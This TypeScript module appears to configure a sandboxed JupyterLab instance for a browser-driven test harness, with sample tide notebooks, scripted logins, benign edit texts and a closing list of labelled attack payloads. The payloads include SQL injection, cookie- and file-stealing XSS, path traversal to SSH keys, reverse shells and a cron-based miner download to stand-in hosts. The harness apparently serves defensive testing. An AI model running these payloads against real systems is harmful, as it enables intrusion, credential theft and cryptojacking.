import type { Application } from "../application.ts";

const password = "Tinte+Feder 1871";

/**
 * Nothing that a visitor or an attack writes is ever executed: there is no kernel to run a cell, and no terminal. What is edited is saved
 * after a second, not after two minutes, because visits are short.
 */
const settle = `
import json, os, sys
from jupyter_server.auth import passwd
os.makedirs("app/schemas")
json.dump({
    "@jupyterlab/docmanager-extension:plugin": {"autosaveInterval": 1},
    "@jupyterlab/apputils-extension:notification": {"fetchNews": "false", "checkForUpdates": False},
}, open("app/overrides.json", "w"))
open("jupyter_server_config.py", "w").write(f"""
from jupyter_client.kernelspec import KernelSpecManager, NoSuchKernel
class NoKernels(KernelSpecManager):
    def find_kernel_specs(self):
        return {{}}
    def get_kernel_spec(self, kernel_name):
        raise NoSuchKernel(kernel_name)
c.ServerApp.kernel_spec_manager_class = NoKernels
c.ServerApp.terminals_enabled = False
c.PasswordIdentityProvider.hashed_password = {passwd(sys.argv[1])!r}
c.IdentityProvider.token = ""
c.ServerApp.root_dir = {os.path.abspath("work")!r}
c.LabApp.app_settings_dir = {os.path.abspath("app")!r}
c.LabApp.extension_manager = "readonly"
""")
def cells(*sources):
    return [{"id": f"cell-{i}", "cell_type": "markdown" if text.startswith("#") else "code", "metadata": {}, "source": text,
             **({} if text.startswith("#") else {"execution_count": None, "outputs": []})} for i, text in enumerate(sources)]
def notebook(path, *sources):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    json.dump({"cells": cells(*sources), "metadata": {"language_info": {"name": "python"}}, "nbformat": 4, "nbformat_minor": 5}, open(path, "w"))
notebook("work/tides/harmonics.ipynb", "# Tidal harmonics\\nGauge at the harbour mouth, 2019-2025.", "import numpy as np\\nt = np.arange(0, 24, 0.1)", "h = 2.1 * np.cos(2 * np.pi * t / 12.42)")
notebook("work/tides/gauge.ipynb", "# Gauge data", "import pandas as pd\\ndf = pd.read_csv('gauge.csv')", "df.describe()")
notebook("work/teaching/week3.ipynb", "# Week 3: regression", "from sklearn.linear_model import Ridge", "Ridge(alpha=0.5)")
for path, text in {
    "work/README.md": "# Tides\\n\\nSee [harmonics](tides/harmonics.ipynb) and the [gauge](tides/gauge.csv).\\n",
    "work/tides/gauge.csv": "time,level_m\\n" + "\\n".join(f"2025-01-01T{h:02d}:00,{h / 7:.2f}" for h in range(24)) + "\\n",
    "work/tides/clean.py": "def clean(df):\\n    return df.dropna()\\n",
    "work/tides/query.sql": "select day, max(level_m) from gauge group by day;\\n",
    "work/teaching/notes.md": "## Office hours\\n\\nTuesdays, 14-16.\\n",
    "work/teaching/plot.R": "plot(cars)\\n",
    "work/environment.yml": "name: tides\\ndependencies:\\n  - numpy\\n",
    "work/run.sh": "#!/bin/sh\\nset -e\\npython tides/clean.py\\n",
}.items():
    open(path, "w").write(text)
`;

/** Documents are saved from a Blob, whose content a browser does not tell to who records it; the server gets the same bytes. */
const sendBodiesAsText = `
const send = window.fetch;
window.fetch = async (input, init) => {
  if (init !== undefined || !(input instanceof Request) || input.body === null) return send(input, init);
  const { url, method, headers, cache, credentials } = input;
  return send(url, { method, headers, cache, credentials, body: await input.text() });
};
`;

/** JupyterLab, notebooks and files in a browser; its visitors write code and prose, which are saved while they type. */
export const jupyterlab: Application = {
  name: "jupyterlab",
  packages: { pip: ["jupyterlab==4.6.6"] },
  files: () => ({
    "settle.py": settle,
    ".jupyter/labconfig/page_config.json": JSON.stringify({
      disabledExtensions: { "@jupyterlab/apputils-extension:announcements": true },
    }),
  }),
  prepare: () => [["python3", "settle.py", password]],
  start: ({ port }) => [
    "jupyter",
    "lab",
    "--config=jupyter_server_config.py",
    "--no-browser",
    "--allow-root",
    "--ip=127.0.0.1",
    `--port=${port}`,
    "--ServerApp.port_retries=0",
  ],
  ready: "/login",
  async enter(page, origin) {
    await page.addInitScript(sendBodiesAsText);
    await page.goto(`${origin}/login`);
    await page.fill("#password_input", password);
    await page.click("#login_submit");
    await page.waitForURL((url) => !url.pathname.startsWith("/login"));
  },
  pages: [
    "/lab/tree/README.md",
    "/lab/tree/tides/harmonics.ipynb",
    "/lab/tree/tides/gauge.ipynb",
    "/lab/tree/tides/clean.py",
    "/lab/tree/tides/query.sql",
    "/lab/tree/teaching/week3.ipynb",
    "/lab/tree/teaching/notes.md",
    "/lab/tree/teaching/plot.R",
    "/lab/tree/environment.yml",
    "/lab/tree/run.sh",
  ],
  avoid: /close|extension|kernel|terminal|console|delete|trash/i,
  texts: {
    searches: [
      "harmonics",
      "gauge.csv",
      "*.ipynb",
      "df.groupby('day')",
      "week3",
      "np.fft",
      "TODO: units",
      "def clean(",
      "O'Brien 1964",
      "plot(cars)",
      "level_m > 2.5",
      "select max(",
      "σ² estimate",
      "Übung 4",
      "潮汐",
      "import pandas as pd",
      "!pip",
      "%timeit",
      "$\\alpha_k$",
      "réponse impulsionnelle",
      "lambda x:",
      "environment.yml",
      "../data/raw",
      '"harbour mouth"',
      "x[::-1]",
      "NaN; inf",
    ],
    lines: [
      "Untitled-final (2).ipynb",
      "tides_2026-03.ipynb",
      "df = pd.read_csv('gauge.csv', sep=';')",
      "x = [i**2 for i in range(10) if i % 2]",
      "%matplotlib inline",
      "!ls -lh ../data | head",
      'print(f"{h.mean():.3f} ± {h.std():.3f} m")',
      "h = 2.1 * np.cos(ω*t + φ)",
      "# What's the datum here?",
      "assert not df['level_m'].isna().any()",
      "tides/2026/März",
      "conda-forge::numpy>=1.26,<3",
      "os.path.join('..', 'data', name)",
      "WHERE station = 'Søndre' AND level_m IS NOT NULL",
      "$$\\int_0^{T} h(t)\\,dt = 0$$",
      "lecture 3; reading (ch. 2 & 4)",
      'for f in *.csv; do wc -l "$f"; done',
      "model.fit(X, y)  # slow!",
      "tag:remove-cell",
      "https://example.org/data/gauge?from=2019&to=2025&fmt=csv",
      "ЛР №3 — регрессия",
      "課題その２",
      "alpha=0.5, l1_ratio=.15",
      "if a < b and b > c: pass",
      "r'\\d{4}-\\d{2}-\\d{2}'",
      "🌊 spring tide",
    ],
    long: [
      'import numpy as np\nimport pandas as pd\n\ndf = pd.read_csv("../data/gauge.csv", parse_dates=["time"])\ndf = df[df.level_m.between(-1, 5)]\nprint(df.describe())',
      "# Residuals\n\nThe *surge* is what's left after the harmonics: $r(t) = h(t) - \\sum_k A_k\\cos(\\omega_k t + \\phi_k)$.\n\n- M2: 12.42 h\n- S2: 12.00 h\n\n> Don't trust the gauge before 2019!",
      "def design(t, periods):\n    cols = [np.ones_like(t)]\n    for p in periods:\n        w = 2 * np.pi / p\n        cols += [np.cos(w * t), np.sin(w * t)]\n    return np.column_stack(cols)",
      "select strftime('%Y-%m', time) as month, max(level_m) - min(level_m) as reach\nfrom gauge\nwhere station in ('Søndre', 'Harbour') or note like '%spring%'\ngroup by 1 having count(*) > 600\nunion all\nselect 'all', max(level_m) - min(level_m) from gauge;",
      'with sqlite3.connect("gauge.db") as db:\n    db.execute("drop table if exists gauge")\n    df.to_sql("gauge", db, index=False)\n    print(db.execute("select count(*) from gauge where level_m > ?", (2.5,)).fetchone())',
      '#!/bin/sh\nset -eu\ncd "$(dirname "$0")/.."\nfor f in data/*.csv; do\n  python tides/clean.py "$f" | gzip > "out/$(basename "$f").gz" || exit 1\ndone\necho "done: $(ls out | wc -l) files"',
      'import subprocess\nout = subprocess.run(["git", "describe", "--always"], capture_output=True, text=True)\nprint("version", out.stdout.strip())',
      "%%html\n<style>table.dataframe td { text-align: right; }</style>\n<div onclick=\"this.classList.toggle('open')\">Show the <b>raw</b> table</div>",
      "<details><summary>Solution to 3(b)</summary>\n\nSince $\\hat\\beta = (X^\\top X + \\lambda I)^{-1} X^\\top y$, it shrinks towards 0 as λ → ∞.\n</details>\n\n| λ | R² |\n|---|---|\n| 0.1 | 91.2% |",
      "name: tides\nchannels: [conda-forge]\ndependencies:\n  - python=3.12\n  - numpy>=1.26,<3\n  - pip:\n    - 'scikit-learn[extra] == 1.5.*; python_version > \"3.9\"'",
      'fit <- lm(level ~ poly(t, 3) + cos(2*pi*t/12.42), data = gauge)\nsummary(fit)$r.squared\nplot(gauge$t, gauge$level, main = "It\'s high tide", xlab = \'h\')\nlines(gauge$t, predict(fit), col = "red")',
      "## Sprechstunde\nDienstags 14–16 Uhr, Raum Ü-2.07; Fragen bitte an die Liste (nicht per Mail!).\n\n1. Übungsblatt 4: Abgabe 12.05.\n2. Wer »pandas« nicht kennt: [10 minutes](https://example.org/pandas/10min.html#selection)",
      "import re\npattern = re.compile(r\"^(?P<y>\\d{4})-(?P<m>\\d\\d)-(?P<d>\\d\\d)[ T](?P<h>\\d\\d):\")\nrows = [m.groupdict() for m in map(pattern.match, open('../data/log.txt')) if m]\nrows[:3]  # e.g. [{'y': '2025', ...}]",
      "# 潮位データの読み込み\nimport os\npath = os.environ.get('GAUGE_DIR', '/srv/data/gauge')\nfiles = sorted(os.listdir(path))\nprint(len(files), 'ファイル')",
      "@njit(parallel=True)\ndef kernel(x, y, out):\n    for i in prange(len(x)):\n        out[i] = np.exp(-0.5 * (x[i] - y[i])**2) if x[i] != y[i] else 1.\n\n%timeit -n 10 -r 3 kernel(x, y, out)",
      'Перед зачётом: задачи 2, 5, 7. "Шпаргалка" разрешена (1 лист А4).\n\nФормула: ∂h/∂t + ∇·(H u) = 0; при H = const получаем c = √(gH).',
      "try:\n    cfg = yaml.safe_load(open('run.yml'))\nexcept (OSError, yaml.YAMLError) as e:\n    raise SystemExit(f\"can't read run.yml: {e!r}\")\nelse:\n    print({k: v for k, v in cfg.items() if not k.startswith('_')})",
    ],
  },
  attacks: [
    {
      class: "sql_injection",
      payload:
        "gauge.csv'||(SELECT UTL_INADDR.GET_HOST_ADDRESS((SELECT banner FROM v$version WHERE ROWNUM=1)) FROM DUAL)||'",
    },
    {
      class: "sql_injection",
      payload: "week3') AND 6641=6641 UNION SELECT NULL,hashed_password,token FROM identities LIMIT 1 OFFSET 0-- zRtw",
    },
    {
      class: "sql_injection",
      payload:
        "station=1 AND (SELECT 9042 FROM(SELECT COUNT(*),CONCAT(0x71716b71,(SELECT MID(VERSION(),1,40)),0x71,FLOOR(RAND(0)*2))x FROM information_schema.plugins GROUP BY x)a)",
    },
    { class: "sql_injection", payload: "x';CREATE TABLE jl(o text);COPY jl FROM PROGRAM 'id';SELECT o FROM jl--" },
    {
      class: "sql_injection",
      payload: 'tides" OR 1 GROUP BY CONCAT(0x3a,current_user,0x3a,FLOOR(RAND(0)*2)) HAVING MIN(0)#',
    },
    { class: "sql_injection", payload: "0 or benchmark(12000000,sha1(0x4a4c)) or '1'='2" },
    {
      class: "xss",
      payload:
        "<img src=1 href=1 onerror=\"fetch('/api/contents').then(r=>r.json()).then(d=>fetch('https://nb.example/x',{method:'POST',mode:'no-cors',body:JSON.stringify(d)}))\">",
    },
    { class: "xss", payload: "[open notebook](javascript:this['\\x65val'](atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ==')))" },
    { class: "xss", payload: "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(origin)>" },
    {
      class: "xss",
      payload: "$\\href{javascript:document.location='//nb.example/?'+document.cookie}{\\text{Fig. 3}}$",
    },
    {
      class: "xss",
      payload:
        '<select data-commandlinker-command="terminal:create-new"></select><object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYWxlcnQoMSk8L3NjcmlwdD4="></object>',
    },
    { class: "path_traversal", payload: "/files/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/ssh/ssh_host_rsa_key?download=1" },
    { class: "path_traversal", payload: "../../../../../../home/jovyan/.jupyter/jupyter_server_config.json" },
    { class: "path_traversal", payload: "..%u2215..%u2215..%u2215..%u2215var%u2215log%u2215auth.log" },
    { class: "path_traversal", payload: "tides/\\..\\/..\\/..\\/..\\/proc/self/fd/0" },
    {
      class: "command_injection",
      payload: "!bash -c 'exec 5<>/dev/tcp/203.0.113.201/9001;cat <&5 | while read l; do $l 2>&5 >&5; done'",
    },
    {
      class: "command_injection",
      payload: "get_ipython().system(__import__('base64').b64decode('Y3VybCAyMDMuMC4xMTMuMjAxL3h8c2g=').decode())",
    },
    {
      class: "command_injection",
      payload:
        "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.201',443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')",
    },
    {
      class: "command_injection",
      payload: "gauge.csv;(crontab -l;echo '*/5 * * * * curl -fsSL http://203.0.113.201/xmrig.sh|bash')|crontab -",
    },
    {
      class: "xxe",
      payload:
        '<?xml version="1.0" standalone="no"?><!DOCTYPE svg [<!ENTITY nb SYSTEM "file:///home/jovyan/.ssh/id_ed25519">]><svg xmlns="http://www.w3.org/2000/svg"><text y="9">&nb;</text></svg>',
    },
  ],
};
